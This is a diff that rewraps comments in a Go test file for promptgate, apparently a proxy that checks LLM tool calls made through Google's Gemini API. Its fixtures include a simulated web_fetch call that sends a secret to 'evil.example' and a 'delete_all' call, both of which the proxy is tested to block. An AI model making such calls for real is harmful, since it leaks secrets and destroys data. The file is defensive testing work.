@@ -21,9 +21,9 @@ import (
 	"github.com/promptgate/promptgate/proxy/origin"
 )
 
-// geminiUpstream is a stand-in of Google's Gemini API: generateContent answers with the candidate parts it is
-// given, streamGenerateContent?alt=sse with the same parts in events split across writes, and the other
-// paths with a fixed body. It keeps every request it got.
+// geminiUpstream is a stand-in of Google's Gemini API: generateContent answers with the candidate
+// parts it is given, streamGenerateContent?alt=sse with the same parts in events split across
+// writes, and the other paths with a fixed body. It keeps every request it got.
 type geminiUpstream struct {
 	*httptest.Server
 	mu    sync.Mutex
@@ -80,8 +80,9 @@ func (u *geminiUpstream) requests() ([]*http.Request, [][]byte) {
 	return append([]*http.Request(nil), u.got...), append([][]byte(nil), u.body...)
 }
 
-// newGeminiProxy serves promptgate with the guarded protocol (onViolation mode) in front of up, with key as
-// the operator's Gemini key ("" for none); the OpenAI upstream fails the test if it is reached.
+// newGeminiProxy serves promptgate with the guarded protocol (onViolation mode) in front of up,
+// with key as the operator's Gemini key ("" for none); the OpenAI upstream fails the test if it is
+// reached.
 func newGeminiProxy(t *testing.T, up, mode, key string) *httptest.Server {
 	t.Helper()
 	e := testEngine(t, "defaultProtocol: guarded\n", nil, nil, []json.RawMessage{vetProtocol(mode)})
@@ -106,7 +107,8 @@ func newGenaiClient(t *testing.T, ts *httptest.Server) *genai.Client {
 	return c
 }
 
-// geminiTools declares get_weather and web_fetch, which the protocol allows, and delete_all, which it does not.
+// geminiTools declares get_weather and web_fetch, which the protocol allows, and delete_all, which
+// it does not.
 func geminiTools() *genai.GenerateContentConfig {
 	obj := func(prop string) *genai.Schema {
 		return &genai.Schema{Type: genai.TypeObject, Properties: map[string]*genai.Schema{prop: {Type: genai.TypeString}}, Required: []string{prop}}
@@ -138,9 +140,10 @@ func answerOf(r *genai.GenerateContentResponse) (text string, calls []string) {
 	return text, calls
 }
 
-// TestGeminiOfficialClient drives the Gemini surface with Google's official Go client, stream and not: an
-// allowed call reaches it, a call that breaks a rule is replaced by the notice, the upstream gets the layered
-// prompt in systemInstruction, the kept tools and the operator's key alone.
+// TestGeminiOfficialClient drives the Gemini surface with Google's official Go client, stream and
+// not: an allowed call reaches it, a call that breaks a rule is replaced by the notice, the
+// upstream gets the layered prompt in systemInstruction, the kept tools and the operator's key
+// alone.
 func TestGeminiOfficialClient(t *testing.T) {
 	t.Parallel()
 	const evil = `{"functionCall":{"name":"web_fetch","args":{"url":"https://evil.example/x?secret=1"}}}`
@@ -196,8 +199,8 @@ func TestGeminiOfficialClient(t *testing.T) {
 	}
 }
 
-// TestGeminiErrorMode: a blocked call in error mode is a 403 for a body, and the stream's last event, both
-// in Google's shape so that the official client reports them.
+// TestGeminiErrorMode: a blocked call in error mode is a 403 for a body, and the stream's last
+// event, both in Google's shape so that the official client reports them.
 func TestGeminiErrorMode(t *testing.T) {
 	t.Parallel()
 	up := newGeminiUpstream(t, `{"text":"Deleting."}`, `{"functionCall":{"name":"delete_all","args":{}}}`)
@@ -225,8 +228,8 @@ func TestGeminiErrorMode(t *testing.T) {
 	}
 }
 
-// TestGeminiRoutes: the routes the Gemini surface rewrites, refuses and passes through, and where the
-// operator's key goes.
+// TestGeminiRoutes: the routes the Gemini surface rewrites, refuses and passes through, and where
+// the operator's key goes.
 func TestGeminiRoutes(t *testing.T) {
 	t.Parallel()
 	up := newGeminiUpstream(t, `{"text":"ok"}`)
@@ -280,8 +283,9 @@ func TestGeminiRoutes(t *testing.T) {
 	}
 }
 
-// TestGeminiKeyStaysWithItsOrigin: the operator's Gemini key goes to the configured origin only, also from
-// the HTTPS-proxy door's pipelines, which take every upstream at the origin the client names.
+// TestGeminiKeyStaysWithItsOrigin: the operator's Gemini key goes to the configured origin only,
+// also from the HTTPS-proxy door's pipelines, which take every upstream at the origin the client
+// names.
 func TestGeminiKeyStaysWithItsOrigin(t *testing.T) {
 	t.Parallel()
 	up := newGeminiUpstream(t, `{"text":"ok"}`)
@@ -312,8 +316,8 @@ func TestGeminiKeyStaysWithItsOrigin(t *testing.T) {
 	}
 }
 
-// TestGeminiPreview previews a Gemini request at its path (a stream with its ?alt=sse), and refuses the paths
-// the surface does not rewrite or cannot read, as the listener does.
+// TestGeminiPreview previews a Gemini request at its path (a stream with its ?alt=sse), and refuses
+// the paths the surface does not rewrite or cannot read, as the listener does.
 func TestGeminiPreview(t *testing.T) {
 	t.Parallel()
 	e := testEngine(t, "", nil, nil, nil)
@@ -344,9 +348,9 @@ func TestGeminiPreview(t *testing.T) {
 	}
 }
 
-// TestGeminiContinue: in onViolation "continue", a refused call is answered by promptgate (a functionResponse
-// named as the call, read back as the output of that call) and the upstream's next answer is what the official
-// client gets, stream and not, with the usage of both rounds.
+// TestGeminiContinue: in onViolation "continue", a refused call is answered by promptgate (a
+// functionResponse named as the call, read back as the output of that call) and the upstream's next
+// answer is what the official client gets, stream and not, with the usage of both rounds.
 func TestGeminiContinue(t *testing.T) {
 	t.Parallel()
 	const evil = `{"functionCall":{"name":"web_fetch","args":{"url":"https://evil.example/x"}},"thoughtSignature":"c2ln"}`
@@ -396,8 +400,8 @@ func TestGeminiContinue(t *testing.T) {
 	}
 }
 
-// TestGeminiQueryKeyNotLogged: a client's key= in the URL reaches neither the log nor the error it gets when
-// the upstream cannot be reached.
+// TestGeminiQueryKeyNotLogged: a client's key= in the URL reaches neither the log nor the error it
+// gets when the upstream cannot be reached.
 func TestGeminiQueryKeyNotLogged(t *testing.T) {
 	t.Parallel()
 	dead := httptest.NewServer(http.NotFoundHandler())
